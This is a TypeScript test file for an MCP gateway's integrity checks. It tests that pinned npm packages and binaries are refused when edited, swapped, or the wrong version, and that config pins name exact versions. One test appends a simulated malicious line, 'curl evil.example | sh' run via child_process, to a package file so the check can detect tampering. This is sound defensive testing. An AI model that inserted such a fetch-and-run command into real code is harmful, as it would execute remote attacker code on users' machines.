// Package integrity for stdio upstreams: a real package, installed from its tarball into a temp
// node_modules, verifies; any edit, removal, addition, version change or cache swap refuses it. A
// binary with another hash never runs.
import { appendFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cachedTarballPath, defaultNpmCache, verifyNpmPackage } from '../../src/upstream/admission/npm-package.js';
import { sha256File, verifyBinary } from '../../src/upstream/admission/integrity.js';
import { parseConfigText } from '../../src/config/load.js';
import { LEGACY, NODE, ROOT, stopAll, tempDir } from '../e2e/helpers.js';
import { rejection, stdioLink } from './helpers.js';
import { PACKAGE, packPackage, VERSION, type PackedPackage } from './package-fixture.js';

let pkg: PackedPackage;
let tmp: string;
beforeAll(() => {
  tmp = tempDir();
  pkg = packPackage(tmp);
});
afterAll(async () => {
  await stopAll();
});

const pin = (root: string, over: Record<string, string> = {}) => ({ npm: `${PACKAGE}@${VERSION}`, integrity: pkg.integrity, root, cache: pkg.cache, ...over });

describe('npm package integrity', () => {
  it('a copy installed from the pinned tarball verifies', async () => {
    const { root } = pkg.install();
    expect(await verifyNpmPackage(pin(root), undefined)).toBeUndefined();
  });

  it('an edited file is refused, by name', async () => {
    const { root, dir } = pkg.install();
    appendFileSync(join(dir, 'lib/ipaddr.js'), '\nrequire("child_process").exec("curl evil.example | sh");\n');
    expect(await verifyNpmPackage(pin(root), undefined)).toBe(`${PACKAGE}@${VERSION} in ${dir} differs from its pinned tarball (changed: lib/ipaddr.js)`);
  });

  it('a removed file and an added file are refused; the package\'s own node_modules is not its content', async () => {
    const { root, dir } = pkg.install();
    rmSync(join(dir, 'README.md'));
    writeFileSync(join(dir, 'lib/preload.js'), 'module.exports = 1;\n');
    mkdirSync(join(dir, 'node_modules/dep'), { recursive: true });
    writeFileSync(join(dir, 'node_modules/dep/index.js'), '');
    expect(await verifyNpmPackage(pin(root), undefined)).toBe(`${PACKAGE}@${VERSION} in ${dir} differs from its pinned tarball (missing: README.md; not in the tarball: lib/preload.js)`);
  });

  it('another installed version is refused, naming both', async () => {
    const { root, dir } = pkg.install();
    expect(await verifyNpmPackage(pin(root, { npm: `${PACKAGE}@99.0.0` }), undefined)).toBe(`installed ${PACKAGE}@${VERSION} in ${dir}, but ${PACKAGE}@99.0.0 is pinned`);
  });

  it('an integrity whose tarball is not in the cache is refused (fail closed), saying how to fetch it', async () => {
    const { root } = pkg.install();
    const other = `sha512-${Buffer.alloc(64, 7).toString('base64')}`;
    expect(await verifyNpmPackage(pin(root, { integrity: other }), undefined)).toMatch(/is not in the npm cache .*: fetch it with `npm cache add ipaddr\.js@/);
  });

  it('a cache entry swapped for other bytes is refused', async () => {
    const { root, dir } = pkg.install();
    const cache = join(tmp, 'swapped-cache');
    const stored = cachedTarballPath(cache, pkg.integrity)!;
    mkdirSync(join(stored, '..'), { recursive: true });
    // The attacker's tarball and matching installed files: only the content address gives them away.
    appendFileSync(join(dir, 'lib/ipaddr.js'), '\n// changed\n');
    writeFileSync(stored, readFileSync(pkg.tarball).subarray(0, 100));
    expect(await verifyNpmPackage(pin(root, { cache }), undefined)).toMatch(/the npm cache entry for sha512-.* holds different bytes/);
  });

  it('a package that is not installed is refused', async () => {
    expect(await verifyNpmPackage(pin(join(tmp, 'empty')), undefined)).toBe(`${PACKAGE} is not installed in ${join(tmp, 'empty', 'node_modules', PACKAGE)}`);
  });

  const lock = JSON.parse(readFileSync(join(ROOT, 'package-lock.json'), 'utf8')) as { packages: Record<string, { version: string; integrity: string }> };
  const everything = lock.packages['node_modules/@modelcontextprotocol/server-everything']!;
  const inCache = existsSync(cachedTarballPath(defaultNpmCache(), everything.integrity)!);
  it.skipIf(!inCache)('the installed server-everything matches its published tarball in the local npm cache', async () => {
    const spec = { npm: `@modelcontextprotocol/server-everything@${everything.version}`, integrity: everything.integrity, root: ROOT };
    expect(await verifyNpmPackage(spec, undefined)).toBeUndefined();
  });
});

describe('config: pins name one exact version', () => {
  const problems = (npm: string, integrity = pkg.integrity): string[] => {
    const r = parseConfigText(`upstreams:\n  x:\n    stdio: { command: node, package: { npm: "${npm}", integrity: "${integrity}" } }\n`);
    return r.ok ? [] : r.problems.map((p) => p.path);
  };
  it.each(['ipaddr.js@^2.5.0', 'ipaddr.js@~2.5.0', 'ipaddr.js@latest', 'ipaddr.js', 'ipaddr.js@2.x', '@scope/pkg@>=1.0.0'])('%s is refused', (npm) => {
    expect(problems(npm)).toEqual(['upstreams.x.stdio.package.npm']);
  });
  it.each(['ipaddr.js@2.5.0', '@modelcontextprotocol/server-everything@2026.8.31', 'pkg@1.0.0-rc.1'])('%s is accepted', (npm) => {
    expect(problems(npm)).toEqual([]);
  });
  it('a sha1 integrity is refused', () => {
    expect(problems('ipaddr.js@2.5.0', 'sha1-Zx8ZJq+0Xn0AKm9eJf3GRdY8yfQ=')).toEqual(['upstreams.x.stdio.package.integrity']);
  });
});

describe('binary integrity', () => {
  it('the right hash passes and any other is refused, naming both', async () => {
    const file = join(tmp, 'server.sh');
    writeFileSync(file, '#!/bin/sh\nexec node server.mjs\n');
    const good = await sha256File(file);
    expect(await verifyBinary({ path: file, sha256: good.toUpperCase() }, undefined)).toBeUndefined();
    const wrong = '0'.repeat(64);
    expect(await verifyBinary({ path: file, sha256: wrong }, undefined)).toBe(`SHA-256 of ${file} is ${good}, expected ${wrong}`);
  });

  it('a tampered script is never started; the same script with its own hash is (the check is what stops it)', async () => {
    const marker = join(tmp, 'ran');
    const script = join(tmp, 'tampered.mjs');
    writeFileSync(script, `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker)}, 'x');\n`);
    const pinned = await sha256File(LEGACY); // the pin of the server the operator approved
    const refused = stdioLink({ command: NODE, args: [script, '--stdio'], binary: { path: script, sha256: pinned } });
    expect(await rejection(refused.link.start())).toBe('refused to start: the pinned package or binary does not match (see the gateway log)');
    expect(refused.events).toContainEqual(expect.objectContaining({ type: 'log', level: 'error', message: 'upstream refused: integrity check failed' }));
    await refused.link.close();
    expect(existsSync(marker)).toBe(false);

    const own = stdioLink({ command: NODE, args: [script, '--stdio'], binary: { path: script, sha256: await sha256File(script) } });
    await rejection(own.link.start()); // it runs, writes the marker, and exits (it is no MCP server)
    await own.link.close();
    expect(existsSync(marker)).toBe(true);
  });

  it('the approved server with its pin starts', async () => {
    const { link } = stdioLink({ command: NODE, args: [LEGACY, '--stdio'], binary: { path: LEGACY, sha256: await sha256File(LEGACY) } });
    try {
      expect((await link.start()).era).toBe('legacy');
    } finally {
      await link.close();
    }
  });
});
